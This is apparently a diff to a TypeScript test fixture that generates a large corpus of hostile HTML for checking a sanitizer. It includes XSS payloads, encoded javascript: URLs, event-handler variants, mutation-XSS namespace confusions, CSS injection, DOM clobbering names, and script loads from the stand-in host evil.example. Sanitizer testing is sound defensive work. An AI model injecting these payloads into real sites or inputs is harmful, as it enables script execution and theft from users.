@@ -1,8 +1,10 @@
-/**
- * Ways in which markup has been made to run, after the OWASP filter evasion list and DOMPurify's fixtures. Each
- * calls `xss()` when it runs; none may, and of none may a forbidden element remain.
- */
-export const HOSTILE_HTML: readonly string[] = [
+import dompurify from './hostile-html-dompurify.json' with { type: 'json' }
+
+// Ways in which markup has been made to run: DOMPurify's published fixtures as they are, and the techniques of the OWASP
+// filter evasion list and of DOMPurify's newer fixtures, written anew. What runs calls `xss()` or `alert()`. There is no NUL
+// among them: text that holds one is refused.
+
+const WELL_KNOWN: readonly string[] = [
   '<script>xss()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>xss()</scr</script>ipt>',
@@ -105,4 +107,274 @@ export const HOSTILE_HTML: readonly string[] = [
   '<a href="?javascript:alert(1)" onclick\u000b=xss()>a</a>',
   '<svg><p><style><g title="</style><img src=x onerror=xss()>"></svg>',
   '<b><i><u><s><big><font color=red face="x" onclick=xss()>a</font></big></s></u></i></b>',
+]
+
+/** Names of event handlers: today's, those of SVG and media, and those of browsers long gone. */
+const HANDLERS =
+  'onabort onactivate onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncellchange onchange onclick onclose oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondataavailable ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onerrorupdate onfilterchange onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange onhelp oninput oninvalid onkeydown onkeypress onkeyup onlayoutcomplete onload onloadeddata onloadedmetadata onloadend onloadstart onlosecapture onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onpropertychange onratechange onreadystatechange onrepeat onreset onresize onrowsenter onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstop onstorage onsubmit onsuspend ontimeerror ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunload onvolumechange onwaiting onwebkitanimationend onwebkitmouseforceup onwheel onzoom'.split(
+    ' ',
+  )
+
+const handlers = HANDLERS.flatMap((name, index) => {
+  const allowed = ['p', 'a href="/x"', 'li', 'blockquote', 'code', 'h2'][index % 6]
+  const foreign = ['img src=x', 'svg', 'body', 'video src=x', 'div', 'input autofocus', 'x-y'][index % 7]
+  return [`<${allowed} ${name}=xss()>a`, `<${foreign}/${name.toUpperCase()} = "xss()">`]
+})
+
+const RUN = 'javascript:xss()'
+const encoded = (as: (code: number) => string) =>
+  [...RUN].map((character) => as(character.charCodeAt(0))).join('')
+const hex = (code: number) => code.toString(16)
+
+/** An address that runs, spelt so that it does not look like one. */
+const SPELLINGS = [
+  RUN,
+  RUN.toUpperCase(),
+  encoded((code) => `&#${code};`),
+  encoded((code) => `&#${code}`),
+  encoded((code) => `&#${String(code).padStart(7, '0')}`),
+  encoded((code) => `&#x${hex(code)};`),
+  encoded((code) => `&#X${hex(code).toUpperCase().padStart(6, '0')}`),
+  encoded((code) => `%${hex(code)}`),
+  encoded((code) => `\\u00${hex(code)}`),
+  encoded((code) => `\\${hex(code)} `),
+  encoded((code) => `&amp;#${code};`),
+  `\`${RUN}\``,
+  ...[
+    '\t',
+    '\n',
+    '\r',
+    '&#0;',
+    '&#9;',
+    '&#x0A;',
+    '&#xD;',
+    '&Tab;',
+    '&NewLine;',
+    '\u00ad',
+    '/**/',
+    '<!-- -->',
+  ].map((inside) => `java${inside}script:xss()`),
+  ...['&colon;', '&#58', '&#x3a;', ' :', '\t:'].map((colon) => `javascript${colon}xss()`),
+  ...Array.from({ length: 33 }, (_, code) => `&#${code};${RUN}`),
+  ...[
+    '\u0001',
+    '\u001f',
+    '\u00a0',
+    '\u1680',
+    '\u180e',
+    '\u200b',
+    '\u2028',
+    '\u2029',
+    '\u205f',
+    '\u3000',
+    '\ufeff',
+  ].map((before) => before + RUN),
+  ...['feed', 'view-source', 'jar', 'mhtml', 'x', 'http', ''].map((scheme) => `${scheme}:${RUN}`),
+  ...['vbscript', 'livescript', 'mocha', 'javascript1.5', 'x-javascript', 'script'].map(
+    (scheme) => `${scheme}:xss()`,
+  ),
+  'data:text/html,&lt;script&gt;xss()&lt;/script&gt;',
+  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
+  'DaTa:image/svg+xml,%3Csvg%20onload=xss()%3E',
+  'data:,x',
+  'file:///etc/passwd',
+  'filesystem:https://evil.example/temporary/x',
+  'blob:https://evil.example/x',
+  'intent://evil.example#Intent;end',
+  'ws://evil.example',
+  'javascript://evil.example/%0Axss()',
+]
+
+const spellings = SPELLINGS.flatMap((address) => [
+  `<a href="${address}">a</a>`,
+  `<p><a title=x href=${address.replaceAll(/\s/g, '&#9;')}>a</p>`,
+])
+
+/** Places from which an address is followed or loaded; a link is the only one of them that a body may hold. */
+const PLACES = [
+  'img src',
+  'img dynsrc',
+  'img lowsrc',
+  'img longdesc',
+  'img srcset',
+  'input type=image src',
+  'iframe src',
+  'iframe srcdoc',
+  'frame src',
+  'object data',
+  'object classid',
+  'object codebase',
+  'embed src',
+  'applet code',
+  'applet archive',
+  'form action',
+  'button formaction',
+  'input type=submit formaction',
+  'isindex action',
+  'body background',
+  'table background',
+  'td background',
+  'bgsound src',
+  'link rel=stylesheet href',
+  'link rel=import href',
+  'link rel=prefetch href',
+  'base href',
+  'area href',
+  'script src',
+  'script href',
+  'audio src',
+  'video poster',
+  'source src',
+  'track src',
+  'portal src',
+  'blockquote cite',
+  'q cite',
+  'a ping',
+  'a xlink:href',
+  'a xml:base',
+  'html manifest',
+  'layer src',
+  'ilayer src',
+  'xml src',
+  'x href',
+  'meta http-equiv=refresh content',
+  'meta http-equiv=Link content',
+  'meta http-equiv=Set-Cookie content',
+  'svg><a xlink:href',
+  'svg><use href',
+  'svg><image href',
+  'svg><feImage xlink:href',
+  'svg><script href',
+  'svg><animate attributeName=href values',
+  'svg><set attributeName=xlink:href to',
+  'svg><handler ev:event=load href',
+  'math><maction actiontype=statusline xlink:href',
+  'math xlink:href',
+]
+
+const places = PLACES.flatMap((place) =>
+  [RUN, '//evil.example/x', 'data:text/html,x'].map((address) => `<${place}="${address}">a`),
+)
+
+/** Elements inside which other rules of reading hold: what is text for one reader is markup for the next. */
+const RAW =
+  'style title textarea noscript xmp noembed noframes iframe template plaintext listing comment option select'.split(
+    ' ',
+  )
+const AROUND = [
+  '',
+  '<svg>',
+  '<svg></p>',
+  '<svg><desc>',
+  '<svg><foreignObject><p>',
+  '<math>',
+  '<math></br>',
+  '<math><mtext><table><mglyph>',
+  '<math><annotation-xml encoding="text/html"><p>',
+  '<form><math><mtext></form><form><mglyph>',
+  '<select><template>',
+  '<p><x-y>',
+]
+
+const confusions = AROUND.flatMap((around) =>
+  RAW.flatMap((raw) => [
+    `${around}<${raw}><a title="</${raw}><img src=x onerror=xss()>">`,
+    `${around}<${raw}><!--</${raw}><p title="--&gt;&lt;img src=x onerror=xss()&gt;">`,
+  ]),
+)
+
+/** A tag whose end is not where it seems to be. */
+const quotes = [
+  'a=">"',
+  '=">"',
+  'a=">" \'\'',
+  '"a=\'>\'"',
+  'a=`>`',
+  'a=">\'>"',
+  '/>',
+  '\u000b',
+  '<b>',
+].flatMap((odd) => [
+  `<script ${odd} src="//evil.example/x.js"></script>`,
+  `<img ${odd} src=x onerror=xss()>`,
+  `<a ${odd} href="${RUN}">a</a>`,
+  `<p ${odd} onclick=xss()>a`,
+])
+
+const styles = [
+  'background:url(//evil.example/x)',
+  `background-image:url('${RUN}')`,
+  'background-image:\\0075\\0072\\006C\\0028//evil.example\\0029',
+  'width:expr/**/ession(xss())',
+  'behavior:url(x.htc)',
+  '-moz-binding:url(//evil.example/x.xml#x)',
+  '-o-link:"javascript:xss()";-o-link-source:current',
+  'content:url(//evil.example/x.svg)',
+  'list-style:url(//evil.example/x)',
+  'position:fixed;inset:0;z-index:9999',
+  'filter:url("data:image/svg+xml,<svg/>#x")',
+  'color:red;}@import//evil.example;{',
+].flatMap((style) => [
+  `<p style='${style}'>a`,
+  `<a href="/x" style='${style}'>a</a>`,
+  `<style>p{${style}}</style>`,
+  `<svg><style>*{${style}}</style></svg>`,
+])
+
+/** Names by which an element could stand in the place of something that scripts rely on. */
+const clobbering =
+  'attributes body children childNodes cookie createElement currentScript forms getElementById head implementation location nodeName nodeType parentNode removeChild root setAttribute state submit'
+    .split(' ')
+    .flatMap((name) => [`<a id=${name} name=${name} href="/x">a</a>`, `<p id="${name}" class="${name}">a`])
+
+/** Links that only look as if they stayed here: allowed, and to be marked as leading away. */
+const away = [
+  'http://1113982867/',
+  'http://0x42.0x66.0x7.0x93/',
+  'http://0102.0146.0007.00000223/',
+  'http://%65vil.example/',
+  'http:\\\\evil.example\\x',
+  'HTTPS:evil.example',
+  'h\ttt\np://evil.example/',
+  '/\\evil.example',
+  '\\/evil.example',
+  '/\t/evil.example',
+  '///evil.example',
+  'https://user:word@evil.example/',
+  'https://evil.example./',
+  'mailto:a@b.example?subject=<script>xss()</script>',
+].map((address) => `<a href='${address}'>a</a>`)
+
+const otherLanguages = [
+  '<!--[if gte IE 4]><script>xss()</script><![endif]-->',
+  '<![if !IE]><img src=x onerror=xss()><![endif]>',
+  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT>xss()</SCRIPT>\'"-->',
+  '<? echo("<SCR"); echo("IPT>xss()</SCRIPT>"); ?>',
+  '<% response.write "<script>xss()</script>" %>',
+  '<xml id=i><b><img src="javas<!-- -->cript:xss()"></b></xml><p datasrc="#i" datafld="b" dataformatas="html">a',
+  '<html><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<img src=x onerror=xss()>">',
+  '<meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-script+AD4-xss()+ADw-/script+AD4-',
+  '\u00bcscript\u00bexss()\u00bc/script\u00be',
+  '{{constructor.constructor("xss()")()}}<p v-on:click="xss()" ng-click="xss()" x-data="xss()" hx-get="/x">a',
+  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xss()//'>`,
+  '<p contenteditable accesskey=x tabindex=1 popover draggable=true is=x slot=x part=x itemprop=x nonce=x>a',
+  '<p dangerouslysetinnerhtml="{}" ref=x key=x suppresshydrationwarning data-reactroot>a',
+  '\u202e<a href="/x">\u202dtpircs\u202c</a>',
+]
+
+/** Everything that is tried, each to be tried alone and all together. */
+export const HOSTILE_HTML: readonly string[] = [
+  ...new Set([
+    ...WELL_KNOWN,
+    ...dompurify.payloads,
+    ...handlers,
+    ...spellings,
+    ...places,
+    ...confusions,
+    ...quotes,
+    ...styles,
+    ...clobbering,
+    ...away,
+    ...otherLanguages,
+  ]),
 ]
